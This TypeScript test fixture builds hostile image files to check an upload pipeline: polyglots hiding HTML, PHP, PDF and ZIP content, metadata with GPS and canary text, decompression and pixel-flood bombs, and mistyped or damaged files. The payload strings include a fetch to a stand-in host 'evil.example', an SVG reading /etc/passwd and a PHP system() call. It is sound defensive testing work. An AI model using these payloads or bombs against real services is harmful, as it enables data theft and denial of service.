import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { flat, noise } from './photos.ts'

/** Texts that must never come out again, wherever in a photo they were hidden. */
export const canary = 'CANARY-7f3ac915-of-the-sender'

export type HostilePhoto = {
  name: string
  /** The type it is sent as. */
  type: string
  bytes: Buffer
  /** `refused`, or `cleaned`: taken as a picture, and nothing else of it kept; `either` where a reader may differ. */
  wanted: 'refused' | 'cleaned' | 'either'
}

const html = `<!doctype html><script>alert('${canary}')</script>`
const script = `*/=1;fetch('//evil.example/${canary}')/*`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="500"><script>${canary}</script><image href="file:///etc/passwd" width="9" height="9"/></svg>`
const filler = (bytes: number) => Buffer.alloc(Math.max(0, bytes), ' ')
/** Large enough to be looked into. */
const grown = (bytes: Buffer | string) => Buffer.concat([Buffer.from(bytes), filler(20_000 - bytes.length)])

/** A hundred hostile photos; the same ones in each run but for their noise. */
export async function hostilePhotos(): Promise<HostilePhoto[]> {
  const plain = await plainPhotos()
  return [
    ...polyglots(plain),
    ...(await metadata(plain)),
    ...bombs(),
    ...(await otherFormats()),
    ...mistyped(plain),
    ...damaged(plain),
    ...(await odd(plain)),
  ]
}

/** Those of them that are photos, and hide other files behind them. */
export const polyglotPhotos = async (): Promise<HostilePhoto[]> => polyglots(await plainPhotos())

async function plainPhotos(): Promise<Plain> {
  const [jpeg, png, webp] = await Promise.all([
    noise(160, 200).jpeg({ quality: 90 }).toBuffer(),
    noise(160, 200).png().toBuffer(),
    noise(160, 200).webp({ quality: 95 }).toBuffer(),
  ])
  return { jpeg, png, webp }
}

type Plain = { jpeg: Buffer; png: Buffer; webp: Buffer }

/** Photos that are files of another format as well. */
function polyglots({ jpeg, png, webp }: Plain): HostilePhoto[] {
  const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1'), Buffer.from(canary), zipEnd])
  const pdf = Buffer.from(`%PDF-1.7\n1 0 obj<</S/JavaScript/JS(${canary})>>endobj\n%%EOF`)
  const php = Buffer.from(`<?php system('${canary}'); ?>`)
  const tails: [string, Buffer][] = [
    ['HTML', Buffer.from(html)],
    ['ZIP', zip],
    ['JavaScript', Buffer.from(script)],
    ['PDF', pdf],
    ['PHP', php],
  ]
  const made: HostilePhoto[] = []
  for (const [what, tail] of tails) {
    for (const [kind, picture] of Object.entries({ jpeg, png, webp })) {
      const bytes = Buffer.concat([picture, tail])
      made.push({ name: `${kind} with ${what} after it`, type: `image/${kind}`, bytes, wanted: 'cleaned' })
    }
    made.push(
      one(`jpeg with ${what} in a comment`, 'image/jpeg', segment(jpeg, 0xfe, tail), 'cleaned'),
      one(`png with ${what} in a text`, 'image/png', chunk(png, 'tEXt', text('Comment', tail)), 'cleaned'),
    )
  }
  return [
    ...made,
    one('HTML before a jpeg', 'image/jpeg', Buffer.concat([Buffer.from(html), jpeg]), 'refused'),
    one('ZIP before a png', 'image/png', Buffer.concat([zip, png]), 'refused'),
    one('GIF that is a script', 'image/jpeg', grown(`GIF89a/*${' '.repeat(40)}${script}`), 'refused'),
    one('a jpeg’s first bytes before a script', 'image/jpeg', grown(`\xff\xd8\xff${script}`), 'refused'),
  ]
}

/** Personal metadata (author, location, camera) in every place that a format has for it. */
async function metadata({ jpeg, png, webp }: Plain): Promise<HostilePhoto[]> {
  const exif = {
    IFD0: { Make: canary, Artist: canary, ImageDescription: html },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '14/1 35/1 0/1',
      GPSLongitudeRef: 'E',
      GPSLongitude: '120/1 58/1 0/1',
    },
  }
  const xmp = `<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${canary}</a></x:xmpmeta><?xpacket end="w"?>`
  const base = () => noise(160, 200)
  const withAll = (make: (picture: Sharp) => Sharp) => make(base().withExif(exif).withXmp(xmp)).toBuffer()
  const adobe = Buffer.from(
    `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x30\x1c\x02\x78\0\x24${canary}`,
    'latin1',
  )
  const icc = Buffer.concat([
    Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'),
    Buffer.alloc(128),
    Buffer.from(canary),
  ])
  const thumbnail = Buffer.concat([
    Buffer.from('JFXX\0\x10', 'latin1'),
    jpeg.subarray(0, 9_000),
    Buffer.from(canary),
  ])
  const second = segment(jpeg, 0xfe, Buffer.from(canary))
  const exifBlock = Buffer.from(
    `II*\0\x08\0\0\0\x01\0\x0f\x01\x02\0\x40\0\0\0\x1a\0\0\0\0\0\0\0${canary}${' '.repeat(40)}`,
    'latin1',
  )
  return [
    one('jpeg with EXIF, GPS and XMP', 'image/jpeg', await withAll((p) => p.jpeg()), 'cleaned'),
    one('png with EXIF, GPS and XMP', 'image/png', await withAll((p) => p.png()), 'cleaned'),
    one(
      'webp with EXIF, GPS and XMP',
      'image/webp',
      await withAll((p) => p.webp({ quality: 95 })),
      'cleaned',
    ),
    one(
      'jpeg turned on its side, with GPS',
      'image/jpeg',
      await base().withExif(exif).withMetadata({ orientation: 8 }).jpeg().toBuffer(),
      'cleaned',
    ),
    one('jpeg with IPTC', 'image/jpeg', segment(jpeg, 0xed, adobe), 'cleaned'),
    one('jpeg with an ICC profile that is none', 'image/jpeg', segment(jpeg, 0xe2, icc), 'either'),
    one('jpeg with a thumbnail of another', 'image/jpeg', segment(jpeg, 0xe0, thumbnail), 'either'),
    one('jpeg with a second jpeg after it', 'image/jpeg', Buffer.concat([jpeg, second]), 'cleaned'),
    one('png with an eXIf block', 'image/png', chunk(png, 'eXIf', exifBlock), 'cleaned'),
    one(
      'png with an iTXt of XMP',
      'image/png',
      chunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)),
      'cleaned',
    ),
    one(
      'png with a zTXt',
      'image/png',
      chunk(png, 'zTXt', Buffer.concat([Buffer.from('Note\0\0'), deflateSync(canary)])),
      'cleaned',
    ),
    one(
      'png with a time and a private block',
      'image/png',
      chunk(chunk(png, 'tIME', Buffer.alloc(7, 1)), 'caNy', Buffer.from(canary)),
      'cleaned',
    ),
    one('webp with an unknown block', 'image/webp', riff(webp, 'CANY', Buffer.from(canary)), 'either'),
    one('jpeg with 60 segments of 64 kB', 'image/jpeg', segments(jpeg, 0xef, 60), 'cleaned'),
    one(
      'jpeg with 60 segments of ICC',
      'image/jpeg',
      segments(jpeg, 0xe2, 60, (at) =>
        Buffer.from(`ICC_PROFILE\0${String.fromCharCode(at + 1, 60)}`, 'latin1'),
      ),
      'either',
    ),
    one(
      'jpeg with 60 segments of XMP',
      'image/jpeg',
      segments(jpeg, 0xe1, 60, () => Buffer.from('http://ns.adobe.com/xap/1.0/\0')),
      'either',
    ),
    one(
      'png with 4,000 texts',
      'image/png',
      chunk(png, 'tEXt', text('Comment', Buffer.from(canary)), 4_000),
      'either',
    ),
  ]
}

/** Few bytes that want much memory or time. */
function bombs(): HostilePhoto[] {
  const inflated = deflateSync(Buffer.alloc(64 * 1024 * 1024))
  const small = rawPng(64, 64, 2, 8)
  return [
    one('png of 200 megapixels, one bit each', 'image/png', rawPng(20_000, 10_000, 0, 1), 'refused'),
    one('png of 200 megapixels of grey', 'image/png', rawPng(20_000, 10_000, 0, 8), 'refused'),
    one(
      'png of 200 megapixels in colour, unfinished',
      'image/png',
      rawPng(20_000, 10_000, 2, 8, 40),
      'refused',
    ),
    one(
      'png of 256 megapixels, sixteen bits each',
      'image/png',
      rawPng(16_000, 16_000, 6, 16, 20),
      'refused',
    ),
    one('png of 2 by 2 thousand million', 'image/png', rawPng(0x7fffffff, 0x7fffffff, 6, 16, 0), 'refused'),
    one('png of just more than 25 megapixels', 'image/png', rawPng(5_001, 5_000, 0, 8), 'refused'),
    one(
      'png of 25 megapixels, sixteen bits, transparent',
      'image/png',
      rawPng(5_000, 5_000, 6, 16),
      'cleaned',
    ),
    ...[8, 8, 16].map((depth, at) =>
      one(
        `png of 25 megapixels, interlaced, ${depth} bits, ${at + 1}`,
        'image/png',
        rawPng(5_000, 5_000, 6, depth, undefined, true),
        depth === 16 ? 'refused' : 'either',
      ),
    ),
    one('png as long as it can be', 'image/png', rawPng(1, 1_000_000, 0, 8), 'either'),
    one(
      'png with a text that unpacks to 64 MB',
      'image/png',
      chunk(small, 'zTXt', Buffer.concat([Buffer.from('Note\0\0'), inflated])),
      'either',
    ),
    one(
      'png with a profile that unpacks to 64 MB',
      'image/png',
      chunk(small, 'iCCP', Buffer.concat([Buffer.from('Bomb\0\0'), inflated])),
      'either',
    ),
    one(
      'png with sixty such texts',
      'image/png',
      chunk(small, 'zTXt', Buffer.concat([Buffer.from('Note\0\0'), inflated]), 60),
      'either',
    ),
  ]
}

/** Formats that the reader could read and the product does not accept. */
async function otherFormats(): Promise<HostilePhoto[]> {
  const base = () => noise(160, 200)
  const avif = await noise(300, 300).avif({ quality: 90, effort: 0 }).toBuffer()
  const heic = Buffer.from(avif)
  heic.write('heic', 8, 'latin1')
  return [
    one('gif', 'image/gif', await base().gif().toBuffer(), 'refused'),
    one('gif called jpeg', 'image/jpeg', await base().gif().toBuffer(), 'refused'),
    one('tiff called jpeg', 'image/jpeg', await base().tiff().toBuffer(), 'refused'),
    one('avif called jpeg', 'image/jpeg', avif, 'refused'),
    one('heic called jpeg', 'image/jpeg', heic, 'refused'),
    one('heic as such', 'image/heic', heic, 'refused'),
    one(
      'bmp called png',
      'image/png',
      grown(Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])),
      'refused',
    ),
    one('svg as such', 'image/svg+xml', grown(svg), 'refused'),
    one('svg called jpeg', 'image/jpeg', grown(svg), 'refused'),
    one('svg called webp', 'image/webp', grown(`<?xml version="1.0"?>${svg}`), 'refused'),
    one('packed svg called png', 'image/png', grown(gzipSync(svg)), 'refused'),
    one(
      'svg behind a png’s first bytes',
      'image/png',
      grown(Buffer.concat([signature, Buffer.from(svg)])),
      'refused',
    ),
    one('pdf called jpeg', 'image/jpeg', grown(`%PDF-1.7\n${canary}`), 'refused'),
    one('JPEG 2000 called jpeg', 'image/jpeg', grown('\0\0\0\fjP  \r\n\x87\n'), 'refused'),
    one('sound called webp', 'image/webp', grown('RIFF\xff\xff\0\0WAVEfmt '), 'refused'),
    one('HTML called jpeg', 'image/jpeg', grown(html), 'refused'),
  ]
}

/** Files sent under a wrong type. */
function mistyped({ jpeg, png, webp }: Plain): HostilePhoto[] {
  return [
    one('jpeg called png', 'image/png', jpeg, 'cleaned'),
    one('png called webp', 'image/webp', png, 'cleaned'),
    one('webp called nothing', 'application/octet-stream', webp, 'cleaned'),
    one('jpeg called a page', 'text/html', jpeg, 'refused'),
    one('jpeg called svg', 'image/svg+xml', jpeg, 'refused'),
    one('jpeg called a form', 'multipart/form-data; boundary=x', jpeg, 'refused'),
  ]
}

/** Incomplete files, and files whose headers are wrong. */
function damaged({ jpeg, png, webp }: Plain): HostilePhoto[] {
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const sized = (height: number, width: number) => {
    const changed = Buffer.from(jpeg)
    changed.writeUInt16BE(height, frame + 5)
    changed.writeUInt16BE(width, frame + 7)
    return changed
  }
  const lastScan = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = jpeg.subarray(lastScan, jpeg.length - 2)
  const scans = Array.from({ length: Math.floor(4_500_000 / scan.length) }, () => scan)
  return [
    ...Object.entries({ jpeg, png, webp }).map(([kind, picture]) =>
      one(
        `${kind} cut in the middle`,
        `image/${kind}`,
        grownTail(picture.subarray(0, picture.length / 2)),
        'refused',
      ),
    ),
    one('jpeg of no size', 'image/jpeg', sized(0, 0), 'refused'),
    one('jpeg that claims 65,500 by 65,500', 'image/jpeg', sized(65_500, 65_500), 'refused'),
    one('nothing but zeros', 'image/jpeg', Buffer.alloc(20_000), 'refused'),
    one('webp whose canvas has 268 megapixels', 'image/webp', canvas(webp), 'refused'),
    one('webp that is longer than it says', 'image/webp', Buffer.concat([webp, webp]), 'cleaned'),
    one('png of no size', 'image/png', rawPng(0, 0, 2, 8, 30), 'refused'),
    one(
      'jpeg with the same scan over and over',
      'image/jpeg',
      Buffer.concat([jpeg.subarray(0, lastScan), ...scans]),
      'either',
    ),
    one(
      'bytes of chance behind a jpeg’s first',
      'image/jpeg',
      Buffer.concat([jpeg.subarray(0, 200), Buffer.alloc(40_000, 0xa5)]),
      'either',
    ),
  ]
}

async function odd({ jpeg }: Plain): Promise<HostilePhoto[]> {
  const frames = [noise(160, 200), noise(160, 200), noise(160, 200)]
  const animated = await sharp(await Promise.all(frames.map((frame) => frame.png().toBuffer())), {
    join: { animated: true },
  })
    .webp({ quality: 90, loop: 0 })
    .toBuffer()
  const cmyk = await flat(5_000, 5_000).toColourspace('cmyk').jpeg().toBuffer()
  const progressive = await flat(5_000, 5_000).jpeg({ progressive: true }).toBuffer()
  const small = rawPng(64, 64, 2, 8)
  const control = Buffer.alloc(26)
  control.writeUInt32BE(64, 4)
  control.writeUInt32BE(64, 8)
  const moving = chunk(chunk(small, 'fcTL', control), 'acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0]))
  return [
    one('moving webp', 'image/webp', animated, 'cleaned'),
    one('moving png', 'image/png', grownTail(moving), 'either'),
    one('CMYK jpeg of 25 megapixels', 'image/jpeg', grownTail(cmyk), 'cleaned'),
    one('progressive jpeg of 25 megapixels', 'image/jpeg', grownTail(progressive), 'cleaned'),
    one('png of sixteen bits of grey', 'image/png', grownTail(rawPng(400, 500, 0, 16)), 'cleaned'),
    {
      name: 'one byte too few',
      type: 'image/jpeg',
      bytes: jpeg.subarray(0, 16 * 1024 - 1),
      wanted: 'refused',
    },
    one('more than 5 MB', 'image/jpeg', Buffer.concat([jpeg, filler(5 * 1024 * 1024)]), 'refused'),
  ]
}

/** Padded to the least size there is, so that it is looked into. */
const one = (name: string, type: string, bytes: Buffer, wanted: HostilePhoto['wanted']): HostilePhoto => ({
  name,
  type,
  bytes: grownTail(bytes),
  wanted,
})
const grownTail = (bytes: Buffer) => Buffer.concat([bytes, Buffer.alloc(Math.max(0, 20_000 - bytes.length))])

/** A JPEG with one more segment after its first two bytes. */
function segment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)])
}
function segments(
  jpeg: Buffer,
  marker: number,
  many: number,
  start: (at: number) => Buffer = () => Buffer.alloc(0),
) {
  let made = jpeg
  for (let at = 0; at < many; at++) {
    made = segment(made, marker, Buffer.concat([start(at), Buffer.alloc(60_000, canary)]))
  }
  return made
}

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
const zipEnd = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])
const text = (keyword: string, value: Buffer) => Buffer.concat([Buffer.from(`${keyword}\0`), value])

/** A PNG with more blocks after its header. */
function chunk(png: Buffer, type: string, content: Buffer, many = 1): Buffer {
  const block = pngChunk(type, content)
  return Buffer.concat([png.subarray(0, 33), ...Array.from({ length: many }, () => block), png.subarray(33)])
}
function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(content.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

/** A black PNG; `rows` fewer than its height leave it unfinished. Colour 0 is grey, 2 RGB, 6 RGBA. */
function rawPng(
  width: number,
  height: number,
  colour: 0 | 2 | 6,
  depth: number,
  rows = height,
  interlaced = false,
) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([depth, colour, 0, 0, interlaced ? 1 : 0], 8)
  const channels = { 0: 1, 2: 3, 6: 4 }[colour]
  const row = 1 + Math.ceil((width * channels * depth) / 8)
  // The seven passes of interlacing need a filter byte for each of their rows, about two for each of the picture.
  const pixels = deflateSync(Buffer.alloc(rows > 0 ? row * rows + (interlaced ? 2 * rows : 0) : 0), {
    level: 1,
  })
  return Buffer.concat([
    signature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A WebP with one more block at its end. */
function riff(webp: Buffer, name: string, content: Buffer): Buffer {
  const padded = content.length % 2 ? Buffer.concat([content, Buffer.alloc(1)]) : content
  const head = Buffer.alloc(8)
  head.write(name, 'latin1')
  head.writeUInt32LE(content.length, 4)
  const whole = Buffer.concat([webp, head, padded])
  whole.writeUInt32LE(whole.length - 8, 4)
  return whole
}

/** A WebP that says of itself to be 16,384 by 16,384. */
function canvas(webp: Buffer): Buffer {
  const head = Buffer.from(`${'RIFF    WEBPVP8X'}\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0`, 'latin1')
  const whole = Buffer.concat([head, webp.subarray(12)])
  whole.writeUInt32LE(whole.length - 8, 4)
  return whole
}
